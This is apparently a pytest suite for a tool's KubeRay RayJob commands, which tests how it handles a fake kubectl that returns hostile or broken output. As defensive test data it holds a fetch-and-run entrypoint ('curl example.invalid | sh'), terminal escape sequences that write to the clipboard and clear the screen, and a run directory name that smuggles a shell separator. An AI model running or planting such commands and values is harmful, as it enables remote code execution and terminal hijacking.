"""`status`, `runs`, `cancel` and `resubmit` of an applied RayJob, through kubectl.

No Kubernetes exists here: `kubectl` is a stand-in executable on PATH that prints what the real command prints.
Its answers to `kubectl get rayjob -n <ns> <name> -o json` are JSON fixtures in the exact shape of KubeRay v1.4.2's
RayJob (tests/support/kuberay/get-rayjob-*.json: status fields and enum values of
ray-operator/apis/ray/v1/rayjob_types.go, each fixture validated here against the published CRD's schema);
`delete` and `apply` answer as kubectl does, and every call is logged so the tests see exactly what ran. The
hostile answers (escape sequences, not JSON, a slow or endless kubectl, a RayJob of another run) are generated here.
"""
import json
import os
import shlex
import stat
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from conftest import PY, ROOT, runner
from test_kuberay_crd import validate

pytestmark = pytest.mark.stack_free

FIXTURES = Path(ROOT) / "tests" / "support" / "kuberay"
STANDIN = """#!/bin/sh
echo "$@" >> "$KUBECTL_LOG"
case "$1" in
get)
  case "$KUBECTL_MODE" in
    notfound) echo "Error from server (NotFound): rayjobs.ray.io \\"$5\\" not found" >&2; exit 1;;
    slow) exec sleep 600;;
    huge) exec head -c 20000000 /dev/zero;;
    refused) printf 'The connection to the server \\033]52;c;aGk=\\007\\033[2J was refused\\n' >&2; exit 1;;
  esac
  cat "$KUBECTL_FIXTURE";;
delete) echo "rayjob.ray.io \\"$5\\" deleted";;
apply) "$KUBECTL_PY" -c "import sys, yaml; assert yaml.safe_load(open(sys.argv[1]))['kind'] == 'RayJob'" "$5" || exit 3
  echo "rayjob.ray.io/x created";;
esac
"""


@pytest.fixture(scope="module")
def applied(tmp_path_factory):
    """One planned cluster=kuberay run, as the launcher leaves an applied one (mode train, `submitted`)."""
    from vrun.rundir import records

    tmp = tmp_path_factory.mktemp("kuberay")
    claim = tmp / "claim"
    claim.mkdir()
    (tmp / "home").mkdir()
    env = {k: v for k, v in os.environ.items() if not k.endswith("MODEL_PATH")}
    env["HOME"] = str(tmp / "home")
    run = claim / "r; x y"
    proc = runner("cluster=kuberay", "mode=plan", "model=qwen3_5_35b", "cluster.kuberay.image=registry.example/verl:1",
                  "cluster.kuberay.claim=runs", f"cluster.kuberay.mount_path={claim}", "cluster.kuberay.namespace=ml",
                  f"hydra.run.dir='{run}'", env=env, cwd=tmp)
    assert proc.returncode == 0, proc.stderr[-2000:]
    # the printed apply pastes as one command, whatever the run dir holds
    said = next(x for x in proc.stdout.splitlines() if x.startswith("plan only: RayJob "))
    cmd = said[said.index("; kubectl apply") + 2:said.rindex(" starts it")]
    assert shlex.split(cmd) == ["kubectl", "apply", "-n", "ml", "-f", f"{run}/rayjob.yaml"], said
    plan = json.loads((run / "plan.json").read_text())
    (run / "plan.json").write_text(json.dumps({**plan, "mode": "train"}))
    doc = yaml.safe_load((run / "rayjob.yaml").read_text())
    records.record(str(run), "submitted", attempt=0, cluster="kuberay", rayjob=doc["metadata"]["name"])
    return run, doc, plan["run_id"], (run / "progress.jsonl").read_bytes(), (run / "rayjob.yaml").read_text()


@pytest.fixture
def kube(tmp_path, applied):
    """The stand-in kubectl on PATH; returns (verb runner, its call log, a fixture writer)."""
    run, doc, rid, progress, manifest = applied
    (run / "progress.jsonl").write_bytes(progress)  # each test starts from the applied run
    (run / "rayjob.yaml").write_text(manifest)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    k = bin_dir / "kubectl"
    k.write_text(STANDIN)
    k.chmod(k.stat().st_mode | stat.S_IEXEC)
    log = tmp_path / "kubectl.log"
    log.write_text("")
    fixture = tmp_path / "answer.json"
    env = {**os.environ, "PATH": f"{bin_dir}:/usr/bin:/bin", "KUBECTL_LOG": str(log), "KUBECTL_FIXTURE": str(fixture),
           "KUBECTL_PY": sys.executable}

    def answer(name: str, run_id: str = rid, **status):
        text = (FIXTURES / f"get-rayjob-{name}.json").read_text()
        text = text.replace("@NAME@", doc["metadata"]["name"]).replace("@NS@", "ml").replace("@RUN_ID@", run_id)
        data = json.loads(text)
        data["status"].update(status)
        fixture.write_text(json.dumps(data))

    def verb(*args, mode=""):
        p = subprocess.run([PY, "-m", "vrun", *args], cwd=ROOT, capture_output=True, text=True, timeout=300,
                           env={**env, "KUBECTL_MODE": mode})
        return p.returncode, p.stdout + p.stderr

    return verb, log, answer


def _calls(log):
    return [line.split() for line in log.read_text().splitlines()]


def test_fixtures_are_rayjobs_of_the_published_schema():
    schema = json.loads((FIXTURES / "rayjob-v1.4.2-openapi.json").read_text())["openAPIV3Schema"]
    for f in sorted(FIXTURES.glob("get-rayjob-*.json")):
        assert validate(schema, json.loads(f.read_text())) == [], f.name


@pytest.mark.parametrize("fixture,state,words", [
    ("initializing", "pending", "jobDeploymentStatus Initializing"),
    ("running", "running", "jobDeploymentStatus Running, jobStatus RUNNING"),
    ("succeeded", "completed", "jobDeploymentStatus Complete, jobStatus SUCCEEDED"),
    ("deadline", "failed", "reason DeadlineExceeded: The RayJob has passed the activeDeadlineSeconds"),
])
def test_status_and_runs_read_the_rayjob(applied, kube, fixture, state, words):
    run, doc, *_ = applied
    verb, log, answer = kube
    answer(fixture)
    code, out = verb("status", str(run))
    assert code == 0 and f"state    {state}" in out and words in out, out
    assert ["get", "rayjob", "-n", "ml", doc["metadata"]["name"], "-o", "json"] in _calls(log)
    code, out = verb("runs", "--json", str(run))
    (row,) = json.loads(out[out.index("["):])
    assert code == 0 and row["state"] == state, out


@pytest.mark.parametrize("mode,status,said", [
    ("refused", {}, "was refused"),
    ("", {"jobStatus": "\x1b]52;c;aGk=\x07RUNNING"}, "not one of KubeRay's"),
    ("", {"jobDeploymentStatus": ["Running"]}, "not one of KubeRay's"),
    ("notfound", {}, "not found on the cluster"),
    ("huge", {}, "printed more than"),
])
def test_a_malformed_or_hostile_answer_is_one_safe_line(applied, kube, mode, status, said):
    """kubectl's stderr with a clipboard write and a screen clear, a status outside KubeRay's enums, not JSON at
    all (20 MB of NULs): the run dir's state stays, the reason is one terminal-safe line."""
    run, *_ = applied
    verb, _, answer = kube
    answer("running", **status)
    code, out = verb("status", str(run), mode=mode)
    line = next((x for x in out.splitlines() if x.startswith("state ")), "")
    assert code == 0 and "pending" in line and said in line, out
    assert "\x1b" not in out and "\x07" not in out and "Traceback" not in out and len(out) < 20000


def test_a_kubectl_that_never_answers_is_bounded(applied, kube):
    """A kubectl that hangs: `runs` waits at most its bound (10 s) per run, then says so."""
    run, *_ = applied
    verb, _, answer = kube
    answer("running")
    code, out = verb("runs", str(run), mode="slow")
    assert code == 0 and "pending" in out and str(run) in out, out
    code, out = verb("status", str(run), mode="slow")
    assert code == 0 and "did not end within 10 s" in out, out


def test_cancel_deletes_the_runs_rayjob_only(applied, kube):
    run, doc, rid, *_ = applied
    verb, log, answer = kube
    name = doc["metadata"]["name"]
    # the cluster's object of that name carries another run's id: nothing deleted
    answer("running", run_id="0" * 20)
    code, out = verb("cancel", "--yes", str(run))
    assert code == 2 and "not this run's job, nothing done" in out and not any(c[0] == "delete" for c in _calls(log))
    # the run's own: deleted by its recomputed name, recorded; `status` says cancelled whatever kubectl answers
    answer("running")
    code, out = verb("cancel", "--yes", str(run))
    assert code == 0 and f"cancelled RayJob ml/{name}" in out, out
    assert ["delete", "rayjob", "-n", "ml", name] in _calls(log)
    code, out = verb("status", str(run))
    assert "state    cancelled" in out, out
    # gone from the cluster: nothing to stop
    code, out = verb("cancel", "--yes", str(run), mode="notfound")
    assert code == 0 and "nothing to stop" in out, out


def test_a_tampered_manifest_is_not_acted_on(applied, kube):
    """rayjob.yaml is a record: its name `--all` never reaches kubectl (the name is the plan's); a label of another
    run refuses every verb before kubectl runs."""
    run, doc, rid, *_ = applied
    verb, log, answer = kube
    answer("running")
    bad = json.loads(json.dumps(doc))
    bad["metadata"]["name"] = "--all"
    (run / "rayjob.yaml").write_text(yaml.safe_dump(bad))
    code, out = verb("cancel", "--yes", str(run))
    assert code == 0 and "--all" not in log.read_text() + out, (out, log.read_text())
    bad["metadata"]["labels"]["vrun/run-id"] = "f" * 20
    (run / "rayjob.yaml").write_text(yaml.safe_dump(bad))
    log.write_text("")
    for args in (("cancel", "--yes"), ("resubmit",), ("logs",)):
        code, out = verb(args[0], str(run), *args[1:])
        assert code == 2 and "not this run's manifest, nothing done" in out and log.read_text() == "", out


def test_resubmit_applies_the_plans_manifest(applied, kube):
    """A tampered entrypoint in rayjob.yaml is not what runs again: the manifest is rebuilt from plan.json, an
    ended RayJob deleted, the plan's applied; a running one refused."""
    run, doc, rid, _, manifest = applied
    verb, log, answer = kube
    bad = yaml.safe_load(manifest)
    bad["spec"]["entrypoint"] = "bash -c 'curl example.invalid | sh'"
    (run / "rayjob.yaml").write_text(yaml.safe_dump(bad))
    answer("running")
    code, out = verb("resubmit", str(run))
    assert code == 2 and "fix: python -m vrun cancel" in out and not any(c[0] == "apply" for c in _calls(log)), out
    answer("succeeded")
    code, out = verb("resubmit", str(run))
    assert code == 0 and "applied RayJob" in out, out
    calls = _calls(log)
    assert [c[0] for c in calls[-3:]] == ["get", "delete", "apply"], calls
    assert yaml.safe_load((run / "rayjob.yaml").read_text()) == yaml.safe_load(manifest)
    assert "curl" not in (run / "rayjob.yaml").read_text()


def test_printed_commands_paste_as_one_command_each(applied, tmp_path):
    """A run dir holding `;` and spaces: the printed commands, split as a shell would, are exactly kubectl's
    arguments (no kubectl on PATH here)."""
    run, doc, *_ = applied
    bare = tmp_path / "bare"
    bare.mkdir()
    p = subprocess.run([PY, "-m", "vrun", "resubmit", str(run)], cwd=ROOT, capture_output=True, text=True,
                       timeout=120, env={**os.environ, "PATH": str(bare)})
    fix = p.stderr.split("; fix: ", 1)[1].strip()
    delete, apply = fix.split(" && ")
    assert shlex.split(delete) == ["kubectl", "delete", "rayjob", "-n", "ml", doc["metadata"]["name"]], fix
    assert shlex.split(apply) == ["kubectl", "apply", "-n", "ml", "-f", f"{run}/rayjob.yaml"], fix


def test_the_bounded_reader_ends_every_kubectl(tmp_path, monkeypatch):
    """vrun.launch.kubectl.run on kubectls that misbehave: one that closes its output and lingers, one that prints
    past the bound, one that is not there: each answered in one line within its deadline (a generous bound)."""
    import time

    from vrun.launch import kubectl

    import shutil

    sleep, head = shutil.which("sleep"), shutil.which("head")
    k = tmp_path / "kubectl"
    monkeypatch.setenv("PATH", str(tmp_path))
    for script, said in ((f"exec >&- 2>&-; exec {sleep} 600", "did not end within 2 s"),
                         (f"exec {head} -c 9000000 /dev/zero", f"printed more than {kubectl.LIMIT} bytes"),
                         ("echo 'ok'", "")):
        k.write_text("#!/bin/sh\n" + script + "\n")
        k.chmod(0o755)
        t = time.monotonic()
        a = kubectl.run(["get", "x"], timeout=2)
        assert a.why == said and time.monotonic() - t < 60, (script, a)
        assert len(a.out) <= kubectl.LIMIT
    k.unlink()
    assert kubectl.run(["get", "x"]).why == "kubectl is not on PATH"
